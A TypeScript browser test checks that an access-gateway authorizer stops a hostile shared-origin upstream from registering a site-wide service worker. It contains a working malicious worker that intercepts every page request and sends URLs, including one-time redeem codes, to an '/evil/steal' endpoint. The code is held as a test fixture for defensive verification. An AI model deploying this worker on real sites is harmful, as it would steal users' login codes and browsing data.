import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../support/authorizer-harness.js';
import { hasChromium, launchChromium, warnIfNoChromium } from '../support/chromium.js';
import { countFigures } from './figures.js';

warnIfNoChromium('the service worker attack');

/**
 * In a real browser, a hostile shared-origin upstream (`evil`, under /evil) tries to take the whole
 * origin with a service worker: its page registers /evil/sw.js for the scope `/`, which its answer
 * allows with `Service-Worker-Allowed: /`. Had that worked, the worker would see every later page
 * load on the origin (here a redeem link of another resource, with its one-time code; a step-up
 * confirmation link alike) and report it to the upstream. The authorizer removes the header, so
 * the registration is refused by the browser, and a worker it does allow stays under /evil/.
 */
countFigures('attack');

const EVIL_PAGE = `<!doctype html><title>evil</title><script>
window.result = (async () => {
  try {
    await navigator.serviceWorker.register('/evil/sw.js', { scope: '/' });
    await navigator.serviceWorker.ready;
    return 'registered for /';
  } catch (err) {
    try {
      await navigator.serviceWorker.register('/evil/sw.js', { scope: '/evil/' });
      return 'refused for /: ' + err.name;
    } catch (err2) { return 'refused: ' + err2.name; }
  }
})();
</script>`;

const EVIL_WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (!e.request.url.includes('/evil/steal')) fetch('/evil/steal?u=' + encodeURIComponent(e.request.url)).catch(() => {});
});`;

describe.runIf(hasChromium)('in a real browser: a shared-origin upstream’s service worker', () => {
  let h: Harness;
  let browser: Browser;
  let evil: Server;
  const stolen: string[] = [];

  beforeAll(async () => {
    evil = createServer((req, res) => {
      const path = req.url ?? '/';
      if (path.includes('/steal')) {
        stolen.push(decodeURIComponent(new URL(path, 'http://x').searchParams.get('u') ?? ''));
        res.writeHead(204).end();
      } else if (path.endsWith('/sw.js')) {
        res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
        res.end(EVIL_WORKER);
      } else {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(EVIL_PAGE);
      }
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
    const port = (evil.address() as AddressInfo).port;
    h = await startHarness({
      resources: `
  evil:
    upstream: http://127.0.0.1:${port}
    match: { pathPrefix: /evil }
    browser: shared-origin
    approvers: { users: [U0BOSS] }
`,
    });
    browser = await launchChromium();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await h?.close();
    await new Promise((r) => evil?.close(r));
  });

  const redeemLink = async (resource: string) => {
    const { grantId } = await h.grant(resource);
    return `${h.url}/_jitgate/redeem?code=${await h.store.codes.createRedeemCode(grantId)}`;
  };

  it('when its page registers a worker for the whole origin, then the browser refuses, and later links with one-time codes are not seen', async () => {
    const page = await (await browser.newContext()).newPage();
    await page.goto(await redeemLink('evil'));
    expect(new URL(page.url()).pathname).toBe('/evil/');
    const result = await page.evaluate('window.result');
    expect(result).toMatch(/^refused for \/: SecurityError/);

    // The visitor opens another resource's redeem link (a step-up confirmation link would be the same).
    const link = await redeemLink('app');
    await page.goto(link);
    expect(new URL(page.url()).pathname).toBe('/app/');
    await page.goto(`${h.url}/_jitgate/healthz`);
    await new Promise((r) => setTimeout(r, 300));
    expect(stolen.filter((u) => !u.includes('/evil/'))).toEqual([]);
    expect(stolen.join('\n')).not.toContain(new URL(link).searchParams.get('code')!);
    await page.close();
  }, 60_000);
});
